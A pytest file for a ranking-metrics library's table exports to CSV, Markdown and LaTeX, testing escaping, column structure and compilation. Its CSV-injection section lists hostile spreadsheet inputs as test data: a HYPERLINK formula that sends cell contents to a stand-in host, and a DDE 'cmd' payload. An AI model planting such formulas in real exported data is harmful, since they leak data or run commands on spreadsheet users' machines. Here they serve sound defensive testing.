"""Table exports: CSV reads back exactly, Markdown keeps its columns, LaTeX balances and compiles."""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import ndcg_core
from ndcg_core.export import latex_escape, to_csv, to_latex, to_markdown
from ndcg_core.teaching.scenarios import BLUETOOTH_HEADPHONES

NASTY = r"50% off & free_ship {x} #1 $9 ~a ^b \c"
UNESCAPED_PIPE = re.compile(r"(?<!\\)\|")


def seed000(labels: list[str] | None = None) -> pd.DataFrame:
    """The per-rank table of seed 000, optionally with other item names."""
    names = labels or list(BLUETOOTH_HEADPHONES.labels)
    return ndcg_core.breakdown(list(BLUETOOTH_HEADPHONES.grades), 5, labels=names)


def without_escapes(latex: str) -> str:
    """LaTeX with every escaped character (``\\%``, ``\\{`` …) and line end (``\\\\``) removed."""
    return re.sub(r"\\[^A-Za-z]", "", latex)


def assert_balanced(latex: str) -> None:
    """Every \\begin has its \\end, in order, and the braces balance."""
    stack = []
    for kind, name in re.findall(r"\\(begin|end)\{([^}]*)\}", latex):
        if kind == "begin":
            stack.append(name)
        else:
            assert stack and stack.pop() == name, latex
    assert not stack, latex
    depth = 0
    for char in without_escapes(latex):
        depth += {"{": 1, "}": -1}.get(char, 0)
        assert depth >= 0, latex
    assert depth == 0, latex


# ---- CSV -------------------------------------------------------------------


def test_csv_reads_back_with_the_same_numbers():
    table = seed000()
    back = pd.read_csv(io.StringIO(to_csv(table)))
    assert list(back.columns) == list(table.columns)
    numeric = table.select_dtypes("number").columns
    np.testing.assert_array_equal(back[numeric].to_numpy(), table[numeric].to_numpy())  # every digit
    assert back["label"].tolist() == table["label"].tolist()


def test_csv_quotes_names_with_commas_and_quotes():
    table = seed000([f'a, "b" {i}\nc' for i in range(7)])
    back = pd.read_csv(io.StringIO(to_csv(table)))
    assert back["label"].tolist() == table["label"].tolist()


# ---- Markdown --------------------------------------------------------------


def test_markdown_has_a_row_per_table_row_and_a_pipe_per_column_border():
    table = seed000()
    lines = to_markdown(table, 2).splitlines()
    assert len(lines) == 2 + len(table)
    assert all(len(UNESCAPED_PIPE.findall(line)) == len(table.columns) + 1 for line in lines)
    assert lines[1].startswith("| ---: | --- |")  # rank right-aligned, item name left-aligned
    assert "| 0.63 |" in lines[3]  # rank 2's contribution 1/log2(3), rounded


def test_markdown_escapes_pipes_and_keeps_grades_as_typed():
    table = seed000(["a|b", *BLUETOOTH_HEADPHONES.labels[1:]])
    text = to_markdown(table, 3, as_typed=["relevance"])
    assert r"| a\|b |" in text
    assert "| 0 | 0.000 |" in text  # grade 0 as typed, its gain rounded


# ---- LaTeX -----------------------------------------------------------------


def test_latex_is_a_booktabs_tabular_with_one_column_per_column():
    table = seed000()
    text = to_latex(table, 2, caption="Seed 000")
    assert_balanced(text)
    spec = re.search(r"\\begin\{tabular\}\{([lr]+)\}", text).group(1)
    assert len(spec) == len(table.columns) and spec.startswith("rl")
    for rule in (r"\toprule", r"\midrule", r"\bottomrule"):
        assert text.count(rule) == 1
    assert r"\caption{Seed 000}" in text and r"\begin{table}" in text
    rows = [line for line in text.splitlines() if line.endswith(r"\\")]
    assert len(rows) == 1 + len(table)
    assert all(row.count(" & ") == len(table.columns) - 1 for row in rows)
    assert r"in\_cutoff" in rows[0]
    assert "0.63" in rows[2] and "0.6309" not in rows[2]  # rounded for display


def test_latex_escapes_special_characters_in_item_names():
    table = seed000([NASTY, *BLUETOOTH_HEADPHONES.labels[1:]])
    text = to_latex(table, 2)
    expected = (
        r"50\% off \& free\_ship \{x\} \#1 \$9 \textasciitilde{}a \textasciicircum{}b \textbackslash{}c"
    )
    assert expected in text
    assert_balanced(text)
    body = without_escapes(text.split(r"\midrule")[1].split(r"\bottomrule")[0])
    assert not re.search(r"[%$#_^~&]", body.replace(" & ", " "))


def test_latex_without_caption_is_a_bare_tabular():
    text = to_latex(seed000(), 2)
    assert r"\begin{table}" not in text and r"\caption" not in text
    assert_balanced(text)


@pytest.mark.skipif(
    not (shutil.which("pdflatex") or shutil.which("lualatex")), reason="no pdflatex or lualatex"
)
def test_latex_compiles(tmp_path: Path):
    table = seed000([NASTY, "[x] *y* <z> a|b", *BLUETOOTH_HEADPHONES.labels[2:]])
    body = to_latex(table, 2, caption="Seed 000 & friends: 100%")
    document = (
        "\\documentclass{article}\n\\usepackage[T1]{fontenc}\n\\usepackage{booktabs}\n"
        "\\usepackage[margin=1cm,landscape]{geometry}\n\\begin{document}\n" + body + "\\end{document}\n"
    )
    (tmp_path / "table.tex").write_text(document, encoding="utf-8")
    engine = shutil.which("lualatex") or shutil.which("pdflatex")
    done = subprocess.run(
        [engine, "-interaction=nonstopmode", "-halt-on-error", "table.tex"],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 0, done.stdout[-3000:]
    assert (tmp_path / "table.pdf").stat().st_size > 0


# ---- any text at all -------------------------------------------------------


@settings(max_examples=200, deadline=None)
@given(st.lists(st.text(), min_size=1, max_size=4), st.text())
def test_any_cell_text_keeps_latex_balanced_and_markdown_columns(names: list[str], caption: str):
    frame = pd.DataFrame(
        {"item": names, "note": list(reversed(names)), "value": np.linspace(0, 1, len(names))}
    )
    frame.columns = ["item", f"note {caption}", "value"]
    latex = to_latex(frame, 2, caption=caption)
    assert_balanced(latex)
    assert len([line for line in latex.splitlines() if line.endswith(r"\\")]) == 1 + len(names)
    lines = to_markdown(frame, 2).splitlines()
    assert len(lines) == 2 + len(names)
    assert all(len(UNESCAPED_PIPE.findall(line)) == 4 for line in lines)


@given(st.text())
def test_escaped_text_has_no_bare_special_character(text: str):
    escaped = without_escapes(latex_escape(text))
    escaped = re.sub(r"\\[A-Za-z]+", "", escaped)  # control words: \textbackslash{}, \ensuremath{\leq}
    assert not re.search(r"[\\%$#_^~&]", escaped)


# ------------------------------------------------------------ CSV injection --

HOSTILE_TEXT = [
    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "line one\rline two",
    "=1+1\n=2+2",
]


def spreadsheet_cells(text: str) -> list[list[str]]:
    """The cells as a spreadsheet reads a CSV: every field as it stands, quotes removed."""
    return list(csv.reader(io.StringIO(text, newline="")))


def runs_as_formula(cell: str) -> bool:
    """What a spreadsheet would evaluate: a cell starting with a formula character, unless it is a number."""
    try:
        float(cell)
    except ValueError:
        return cell[:1] in ("=", "+", "-", "@", "\t", "\r")
    return False


@pytest.mark.parametrize("name", HOSTILE_TEXT)
def test_csv_never_hands_a_spreadsheet_a_formula(name):
    table = pd.DataFrame({"Item": [name, "Bose"], "Query": ["-q1", name], "NDCG": [-0.5, 0.25]})
    cells = spreadsheet_cells(to_csv(table))
    assert len(cells) == 3, "a carriage return or line feed inside a name must not start a new row"
    assert not [cell for row in cells for cell in row if runs_as_formula(cell)]
    kept = "'" + name if name.startswith(("=", "+", "-", "@", "\t", "\r")) else name
    assert cells[1][0] == kept  # the text is kept, behind an apostrophe where it would start a formula
    assert [row[2] for row in cells[1:]] == ["-0.5", "0.25"]  # numbers, negative too, stay numbers


def test_csv_keeps_text_that_only_looks_like_a_number():
    table = pd.DataFrame({"qid": ["-5", "301"], "ndcg": [0.1, 0.2]})
    assert [row[0] for row in spreadsheet_cells(to_csv(table))[1:]] == ["-5", "301"]


@given(st.text(max_size=30))
def test_no_text_cell_ever_runs_as_a_formula(name):
    cells = spreadsheet_cells(to_csv(pd.DataFrame({"Item": [name], "value": [1.0]})))
    assert len(cells) == 2 and not runs_as_formula(cells[1][0])
